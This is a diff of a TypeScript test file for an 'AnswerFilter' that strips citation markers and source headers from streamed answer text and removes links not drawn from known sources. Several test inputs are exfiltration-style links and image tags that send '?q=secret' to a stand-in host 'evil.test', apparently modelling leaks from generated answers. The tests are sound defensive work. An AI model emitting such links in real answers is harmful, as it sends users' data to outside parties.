@@ -7,7 +7,7 @@ function newText(isFenced = false): AnswerFilter {
   return new AnswerFilter(new AllowedLinks(() => KNOWN), (id) => ["p1", "p2", "t1"].includes(id), isFenced);
 }
 
-/** What is shown of a text in one piece, having made sure that other pieces show the same. */
+/** The filtered text, having checked that it is the same however the text is split. */
 function shown(text: string, isFenced = false): string {
   const whole = newText(isFenced);
   const given = whole.push(text) + whole.end();
@@ -15,12 +15,12 @@ function shown(text: string, isFenced = false): string {
     const cut = newText(isFenced);
     let joined = "";
     for (let at = 0; at < text.length; at += size) joined += cut.push(text.slice(at, at + size));
-    expect(joined + cut.end(), `in pieces of ${size}`).toBe(given);
+    expect(joined + cut.end(), `in deltas of ${size}`).toBe(given);
   }
   return given;
 }
 
-describe("what a visitor reads", () => {
+describe("AnswerFilter", () => {
   it.each([
     "Refunds take five days.",
     "# Steps\n\n1. Open **Billing**.\n2. Press `Cancel [x]`!\n\n| a | b |\n| --- | --- |\n| 1 | 2 |",
@@ -30,11 +30,11 @@ describe("what a visitor reads", () => {
     "Is it? [not a link] (really)",
     "См. раздел «Оплата» 🙂 [да]",
     "@everyone is welcome.",
-  ])("leaves %j alone", (text) => {
+  ])("does not change %j", (text) => {
     expect(shown(text)).toBe(text);
   });
 
-  it.each(["[x](a)", "(a", "[x]((a", "[x]( ", "![", "(a)"])("reads thousands of %j at once", (part) => {
+  it.each(["[x](a)", "(a", "[x]((a", "[x]( ", "![", "(a)"])("handles thousands of %j quickly", (part) => {
     const text = `[${part.repeat(1_000)}<`;
     const whole = newText();
     let given = "";
@@ -42,7 +42,7 @@ describe("what a visitor reads", () => {
     expect((given + whole.end()).length).toBeGreaterThan(0);
   });
 
-  it("drops space at both ends", () => {
+  it("trims white space", () => {
     expect(shown("\n\n  Yes.  \n\n")).toBe("Yes.");
   });
 
@@ -50,11 +50,11 @@ describe("what a visitor reads", () => {
     ["Five days [p1].", "Five days."],
     ["Five days [p1, t1] and 【p2】 more [ p1 ; p2 ].", "Five days and more."],
     ["The pin [p9] is unknown.", "The pin [p9] is unknown."],
-  ])("takes markers out of %j", (text, clean) => {
+  ])("removes citation markers from %j", (text, clean) => {
     expect(shown(text)).toBe(clean);
   });
 
-  it("notes whose markers it took out", () => {
+  it("lists the ids of removed markers", () => {
     const text = newText();
     text.push("One [p1], two [p2].");
     expect(text.citedIds).toEqual(["p1", "p2"]);
@@ -65,11 +65,11 @@ describe("what a visitor reads", () => {
     ["One.\n**@sources p2**\nTwo.", "One.\nTwo."],
     ["@sources p1\nOne.", "One."],
     ["One.\n@sources p1", "One."],
-  ])("takes later headers out of %j", (text, clean) => {
+  ])("removes later headers from %j", (text, clean) => {
     expect(shown(text)).toBe(clean);
   });
 
-  it("closes the fence that the header stood in", () => {
+  it("removes the end of the fence around the header", () => {
     expect(shown("```\nYes.", true)).toBe("Yes.");
     expect(shown("Yes.\n```", true)).toBe("Yes.");
     expect(shown("Run:\n```sh\nls\n```\nDone.\n```\n", true)).toBe("Run:\n```sh\nls\n```\nDone.");
@@ -86,7 +86,7 @@ describe("links", () => {
     "(https://acme.test/a_(b))",
     "<https://acme.test/help/>",
     "**https://acme.test/help#top**, www.acme.test!",
-  ])("of the sources stay in %j", (text) => {
+  ])("of the sources are kept in %j", (text) => {
     expect(shown(text)).toBe(text);
   });
 
@@ -112,18 +112,18 @@ describe("links", () => {
     ["<img src=//evil.test/?q=secret>", "<img src=(link removed)>"],
     ["[a][1]\n\n[1]: https://evil.test/?q=secret", "[a][1]\n\n1: (link removed)"],
     ["[1]: //evil.test/x", "1: (link removed)"],
-  ])("of no source become plain text in %j", (text, clean) => {
+  ])("that no source has are removed from %j", (text, clean) => {
     expect(shown(text)).toBe(clean);
   });
 
-  it("does not let a long label or target hide one", () => {
+  it("that have a long label or target are removed too", () => {
     const label = `[${"a ".repeat(400)}](https://evil.test/?q=secret)`;
     expect(shown(label)).not.toContain("evil.test");
     expect(shown(`[a](https://evil.test/${"q".repeat(3_000)})`)).not.toContain("https://evil");
     expect(shown(`[a\n](https://evil.test/x) ![b\n](//evil.test/x)`)).not.toContain("evil.test");
   });
 
-  it("keeps back no more than what may yet become a link", () => {
+  it("are the only text that is held back", () => {
     const text = newText();
     expect(text.push("Refunds")).toBe("Refunds");
     expect(text.push(" take five ")).toBe(" take five");
